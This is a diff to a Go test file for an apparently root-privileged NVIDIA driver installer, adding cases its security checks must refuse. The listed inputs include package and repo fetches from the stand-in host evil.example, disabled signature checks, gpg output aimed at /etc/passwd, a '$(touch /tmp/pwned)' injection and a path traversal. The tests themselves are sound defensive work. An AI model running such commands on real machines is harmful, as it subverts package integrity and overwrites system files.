@@ -7,6 +7,7 @@ import (
 	"context"
 	"encoding/json"
 	"errors"
+	"fmt"
 	"io"
 	"os"
 	"os/exec"
@@ -96,7 +97,17 @@ func TestThreat11RootMisuse(t *testing.T) {
 		{"apt-get", "install", "-y", "--", "nvidia-open"}, {"apt-get", "install", "-y", "./evil.deb"}, {"apt-get", "install", "-y", "/tmp/evil.deb"},
 		{"apt-get", "install", "-o", "Dpkg::Pre-Install-Pkgs::=/tmp/x", "nvidia-open"}, {"apt-get", "install", "-oAPT::Update::Pre-Invoke::=x", "nvidia-open"},
 		{"apt-get", "install"}, {"apt-get", "source", "x1"}, {"apt-get", "install", "-c", "/tmp/apt.conf", "nvidia-open"}, {"apt-get", "install", "-o"},
-		{"dpkg", "--install", "/tmp/evil.deb"}, {"dpkg", "--install", "/home/me/cuda-keyring_1.1-1_all.deb", "/tmp/evil.deb"}, {"dpkg", "-i", "x"},
+		{"dpkg", "--install", "/tmp/evil.deb"}, {"dpkg", "--install", "/home/me/cuda-keyring_1.1-1_all.deb"}, {"dpkg", "-i", "x"}, {"dpkg", "--configure", "-a"},
+		{"apt-get", "install", "coreutils-"}, {"apt-get", "install", "nvidia-open-"}, {"apt-get", "install", "nvidia-open+"}, {"apt-get", "install", "sl"}, {"apt-get", "install", "nvidia-open/sid"},
+		{"apt-get", "install", "nvidia.*"}, {"apt-get", "install", "linux-headers-6.1.0-30-amd64-"}, {"apt-get", "install", "nvidia-container-toolkit"},
+		{"apt-get", "remove", "lib."}, {"apt-get", "remove", "linux-headers-6.1.0-30-amd64"}, {"apt-get", "remove", "-y", "nvidia-open", "openssh-server"},
+		{"apt-get", "install", "--allow-downgrades", "linux-headers-6.1.0-30-amd64=6.1.1-1"}, {"apt-mark", "hold", "openssl"}, {"apt-mark", "unhold", "linux-image-amd64"},
+		{"dnf", "install", "-y", "evil.rpm"}, {"dnf", "install", "-y", "nvidia-open.rpm"}, {"dnf", "install", "-y", "nvidia-1.rpm"}, {"dnf", "install", "-y", "@development"}, {"dnf", "install", "-y", "nvidia-*"},
+		{"dnf", "install", "-y", "./nvidia-open"}, {"dnf", "remove", "-y", "kernel"}, {"dnf", "versionlock", "add", "*"}, {"dnf", "versionlock", "add", "*ssl*"}, {"dnf", "module", "enable", "-y", "evil:1"},
+		{"dnf", "install", "-y", "--allowerasing", "kernel-devel-5.14.0"},
+		{"zypper", "--non-interactive", "install", "evil.rpm"}, {"zypper", "--non-interactive", "install", "nvidia-open-580.rpm"}, {"zypper", "--non-interactive", "install", "sudo=1"}, {"zypper", "--non-interactive", "addlock", "openssl"},
+		{"systemctl", "stop", "unattended-upgrades"},
+		{"gpg", "--batch", "--yes", "--dearmor", "--output", "/etc/passwd", "/tmp/3BF863CC.pub"}, {"gpg", "--batch", "--yes", "--dearmor", "--output", "/usr/share/keyrings/cuda-archive-keyring.gpg", "/tmp/x"},
 		{"dnf", "install", "-y", "https://evil.example/x.rpm"}, {"dnf", "install", "--setopt=tsflags=noscripts", "x"},
 		{"dnf", "config-manager", "--add-repo", "https://evil.example/cuda.repo"}, {"dnf", "makecache", "--setopt=gpgcheck=0"}, {"dnf", "module", "install", "-y", "evil:1"},
 		{"zypper", "addrepo", "--refresh", "https://evil.example/cuda.repo"}, {"zypper", "--gpg-auto-import-keys", "refresh"}, {"zypper", "--non-interactive", "refresh", "evil"},
@@ -120,6 +131,8 @@ func TestThreat11RootMisuse(t *testing.T) {
 		{Write: &plan.Write{Path: "/etc/yum.repos.d/cuda-rhel9.repo", Mode: 0o644, Content: "[cuda-rhel9-x86_64]\nbaseurl=https://developer.download.nvidia.com.evil.example/compute/cuda/repos/rhel9/x86_64\ngpgcheck=1\n"}},
 		{Write: &plan.Write{Path: "/etc/yum.repos.d/cuda-rhel9.repo", Mode: 0o644, Content: "[cuda-rhel9-x86_64]\ngpgcheck=0\n"}},
 		{Write: &plan.Write{Path: "/etc/yum.repos.d/cuda-rhel9.repo", Mode: 0o644, Content: "[cuda-rhel9-x86_64]\nenabled=1\n"}},
+		{Write: &plan.Write{Path: "/etc/apt/sources.list.d/cuda-debian12-x86_64.list", Mode: 0o644, Content: "deb [trusted=yes] https://developer.download.nvidia.com/compute/cuda/repos/debian12/x86_64/ /\n"}},
+		{Write: &plan.Write{Path: "/etc/apt/sources.list.d/evil.list", Mode: 0o644, Content: "deb [signed-by=" + plan.Keyring + "] https://developer.download.nvidia.com/compute/cuda/repos/debian12/x86_64/ /\n"}},
 		{Write: &plan.Write{Path: "/var/lib/envfix/held", Mode: 0o644, Content: "$(touch /tmp/pwned)\n"}}, {Write: &plan.Write{Path: "/var/lib/envfix/../../etc/passwd", Mode: 0o644}},
 		{Block: &plan.Block{Path: "/root/.bashrc"}}, {Switch: &plan.Switch{Dir: "/"}}, {},
 	} {
@@ -129,6 +142,83 @@ func TestThreat11RootMisuse(t *testing.T) {
 	}
 	if err := CheckRoot(plan.Step{Write: &plan.Write{Path: "/etc/modprobe.d/nvidia-nouveau.conf", Mode: 0o644, Content: "blacklist nouveau\noptions nouveau modeset=0\n"}}); err != nil {
 		t.Error(err)
+	}
+}
+
+// What the package manager would take away is asked by root's half itself: a plan
+// that names no rehearsal, and one that allows everything, are refused alike.
+func TestThreat11RootRehearses(t *testing.T) {
+	for _, d := range some() {
+		t.Run(d.name, func(t *testing.T) {
+			s := newStandIn(t, t.TempDir(), d)
+			s.install(t, had("570.211.01", "proprietary")(d)...)
+			p := s.plan(t, d, "upgrade", "580", "open")
+			s.set(t, "state/desktop", "gnome-shell\n")
+			before := s.read("state/installed")
+			for _, step := range p.Steps {
+				if step.ID != "driver" && step.ID != "driver-prepare-1" && step.ID != "driver-download" {
+					continue
+				}
+				err := s.host().direct(context.Background(), step, io.Discard, nil)
+				if step.ID != "driver" {
+					continue // what comes before it is as it was
+				}
+				if kind(t, err) != Preflight || !strings.Contains(fmt.Sprint(err), "would remove") {
+					t.Errorf("got %v", err)
+				}
+			}
+			if diff := cmp.Diff(before, s.read("state/installed")); diff != "" {
+				t.Errorf("installed (-before +after):\n%s", diff)
+			}
+		})
+	}
+}
+
+// What a package manager might take for a file of the caller's directory is none:
+// root's commands start in /.
+func TestThreat11RootStartsElsewhere(t *testing.T) {
+	dir := t.TempDir()
+	t.Chdir(dir)
+	if err := errors.Join(os.Mkdir("programs", 0o755), os.WriteFile("programs/modprobe", []byte("#!/bin/sh\npwd > "+dir+"/where\n"), 0o755)); err != nil {
+		t.Fatal(err)
+	}
+	step := plan.Step{ID: "x", Run: &plan.Run{Argv: []string{"modprobe", "nvidia"}}}
+	if err := (host{programs: dir + "/programs"}).direct(context.Background(), step, io.Discard, nil); err != nil {
+		t.Fatal(err)
+	}
+	if b, err := os.ReadFile("where"); err != nil || string(b) != "/\n" {
+		t.Errorf("it ran in %q, %v", b, err)
+	}
+}
+
+// The key of a repository is taken by its fingerprint, whatever its file is called,
+// and what lies in the file's place afterwards is of no interest.
+func TestThreat14AptKey(t *testing.T) {
+	key, err := filepath.Abs("../system/testdata/key.asc")
+	if err != nil {
+		t.Fatal(err)
+	}
+	dir := t.TempDir()
+	file := dir + "/3BF863CC.pub"
+	if err := os.Symlink(key, file); err != nil {
+		t.Fatal(err)
+	}
+	step := plan.Step{ID: "x", Run: &plan.Run{Argv: []string{"gpg", "--batch", "--yes", "--dearmor", "--output", plan.Keyring, file}}}
+	if err := (host{root: dir}).direct(context.Background(), step, io.Discard, nil); kind(t, err) != Integrity {
+		t.Errorf("a key that is not NVIDIA's: %v", err)
+	}
+	if _, err := os.Stat(dir + plan.Keyring); !gone(err) {
+		t.Errorf("it was written: %v", err)
+	}
+	if err := (host{root: dir, keys: map[string]string{"3BF863CC": keyPrint}}).direct(context.Background(), step, io.Discard, nil); err != nil {
+		t.Fatal(err)
+	}
+	written, err := os.ReadFile(dir + plan.Keyring)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got, err := system.Fingerprint(written); err != nil || got != keyPrint || written[0]&0x80 == 0 {
+		t.Errorf("written: %s, %v", got, err)
 	}
 }
 
